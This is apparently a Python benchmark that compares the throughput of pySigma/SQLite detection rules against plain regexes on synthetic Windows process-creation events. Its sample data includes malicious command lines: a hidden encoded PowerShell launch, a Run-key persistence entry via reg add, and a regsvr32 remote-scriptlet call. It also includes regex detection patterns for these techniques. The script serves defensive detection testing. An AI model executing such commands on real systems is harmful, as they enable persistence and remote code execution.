"""Events/s of evaluating the five detection families (pySigma -> SQLite), beside a plain-regex baseline.

Run: .venv/bin/python bench/detections.py [--events 200000]
Prints throughput of both in the same run and their ratio (target: the evaluation >= 0.5x the
baseline); no assertion on time. Times are CPU seconds of this process (time.process_time), printed
with the load average, so that other work on a shared machine moves them less.

The evaluation judges each distinct row of fields once (emit/detections/evaluation.py), so its speed
depends on how often sampled events repeat; the plain-regex baseline judges every event. Three
shapes of the same events, each against its own baseline:
  repeating  - the events as this bench always made them: 9 distinct rows (6 benign, 3 malicious);
  2/3 unique - two events in three get a unique command line, as the dev set's sampled 4688s have
               113 distinct rows in 169 (shared/reference/evtx-dev, one file per host);
  all unique - every command line differs: no repeats at all, the worst case.
"""

from __future__ import annotations

import argparse
import os
import random
import re
import time
from collections.abc import Sequence

import pandas as pd

from auditplan.emit.api import detection_rules, evaluate_events

BENIGN = [
    (r"C:\Windows\System32\svchost.exe", r"C:\Windows\System32\services.exe", "svchost.exe -k netsvcs -p -s Schedule"),
    (r"C:\Windows\System32\conhost.exe", r"C:\Windows\System32\cmd.exe", r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1"),
    (r"C:\Program Files\Google\Chrome\Application\chrome.exe", r"C:\Windows\explorer.exe", "chrome.exe --type=renderer"),
    (r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", r"C:\Windows\System32\svchost.exe",
     r"powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\ProgramData\Agent\inventory.ps1"),
    (r"C:\Windows\System32\reg.exe", r"C:\Windows\System32\cmd.exe", r'reg query "HKLM\SOFTWARE\Microsoft"'),
    (r"C:\Users\bob\AppData\Local\Temp\{A1}\setup.exe", r"C:\Windows\explorer.exe", "setup.exe /quiet"),
]
BAD = [
    (r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", r"C:\Windows\System32\cmd.exe", "powershell -w hidden -enc AA"),
    (r"C:\Windows\System32\reg.exe", r"C:\Windows\System32\cmd.exe",
     r'reg add "HKCU\Software\Microsoft\Windows\CurrentVersion\Run" /v x /d C:\Users\Public\x.exe'),
    (r"C:\Windows\System32\regsvr32.exe", r"C:\Windows\explorer.exe", "regsvr32 /s /n /u /i:http://x/a.sct scrobj.dll"),
]
# The same five families written directly as Python regular expressions (the baseline).
BASELINE = [
    (re.compile(r"\\regsvr32\.exe$", re.I), re.compile(r"[-/]i:(http|ftp).*scrobj", re.I)),
    (re.compile(r"\\ftp\.exe$", re.I), re.compile(r"[-/]s:", re.I)),
    (re.compile(r"\\(powershell|pwsh)\.exe$", re.I), re.compile(r"(^|\s)[-/]w(i(n(d(o(w(s(t(y(l(e)?)?)?)?)?)?)?)?)?)?[\s:]+[\"']?(h(i(d(d(e(n)?)?)?)?)?|1)([\"']|\s|$)", re.I)),
    (re.compile(r":\\(users\\public|perflogs|windows\\temp|programdata)\\|\\appdata\\local\\temp\\|\\downloads\\", re.I), None),
    (re.compile(r"\\reg\.exe$", re.I), re.compile(r" add .*Software\\(WOW6432Node\\)?Microsoft\\Windows\\CurrentVersion\\Run", re.I)),
]
# Family 4's installer filter, so both sides count the same hits.
INSTALLER = re.compile(r"\\(setup|install|installer|unins000|dismhost)\.exe$", re.I)


Row = tuple[str, str, str]


def baseline(rows: Sequence[Row]) -> int:
    hits = 0
    for image, _parent, cmd in rows:
        for image_re, cmd_re in BASELINE:
            if image_re.search(image) and (cmd_re.search(cmd or "") if cmd_re else not INSTALLER.search(image)):
                hits += 1
    return hits


def measure(name: str, rows: list[Row]) -> float:
    events = pd.DataFrame(rows, columns=["new_process_name", "parent_process_name", "command_line"])
    events["host"] = [f"h{i % 500}" for i in range(len(events))]
    events["subject_user_name"] = "alice"
    events["event_id"] = 4688
    rules = detection_rules().rules
    distinct = len(set(rows))

    t0 = time.process_time()
    result = evaluate_events(events, {}, rules)
    sigma_s = time.process_time() - t0
    t0 = time.process_time()
    baseline_hits = baseline(rows)
    base_s = time.process_time() - t0
    n = len(events)
    sigma_hits = sum(r.hits for r in result.results)
    print(f"{name}: {n:,} events, {distinct:,} distinct rows; hits: sigma {sigma_hits:,}, "
          f"regex baseline {baseline_hits:,}{'' if sigma_hits == baseline_hits else '  MISMATCH'}")
    print(f"   pySigma+SQLite (load + {len(rules)} queries): {sigma_s:.2f} CPU s = {n / sigma_s:,.0f} events/s")
    print(f"   plain-Python regex baseline:       {base_s:.2f} CPU s = {n / base_s:,.0f} events/s")
    ratio = base_s / sigma_s
    print(f"   ratio sigma / baseline: {ratio:.2f}x (target >= 0.5x)")
    return ratio


def unique(rows: list[Row], every: int) -> list[Row]:
    """The same events with a unique token (a process id, as cmd.exe lines often carry) ending the
    command line of every `every`-th one and of the one after it (every=3: two in three)."""
    return [(image, parent, f"{cmd} 0x{i:x}" if every == 1 or i % every else cmd)
            for i, (image, parent, cmd) in enumerate(rows)]


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--events", type=int, default=200_000)
    args = parser.parse_args()
    rng = random.Random(4688)
    rows = [BAD[rng.randrange(len(BAD))] if rng.random() < 0.001 else BENIGN[rng.randrange(len(BENIGN))]
            for _ in range(args.events)]
    print("load average " + " ".join(f"{x:.2f}" for x in os.getloadavg()))
    measure("repeating", rows)
    measure("2/3 unique", unique(rows, 3))
    measure("all unique", unique(rows, 1))
    print("load average " + " ".join(f"{x:.2f}" for x in os.getloadavg()))


if __name__ == "__main__":
    main()
